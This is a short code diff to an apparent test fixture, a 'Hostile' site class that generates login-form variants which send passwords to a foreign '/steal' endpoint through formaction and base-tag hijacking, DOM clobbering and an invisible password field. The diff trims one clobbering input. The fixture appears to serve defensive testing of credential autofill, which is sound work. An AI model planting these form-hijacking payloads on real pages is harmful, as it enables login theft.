@@ -452,7 +452,7 @@ class Hostile(Site):
             "formaction": plain.replace("<button>", f"<button formaction={self.foreign}/steal>"),
             "base": f"<base href={self.foreign}>" + plain.replace("action=/login", "action=login"),
             "clobber": plain.replace("action=/login", f"action={self.foreign}/steal").replace(
-                "<button>", "<input name=action value=/login><input name=getAttribute><button>"
+                "<button>", "<input name=action value=/login><button>"
             ),
             "moved": plain.replace("action=/login", "action=/moved"),
             "invisible": plain.replace("type=password", "type=password style=opacity:0"),
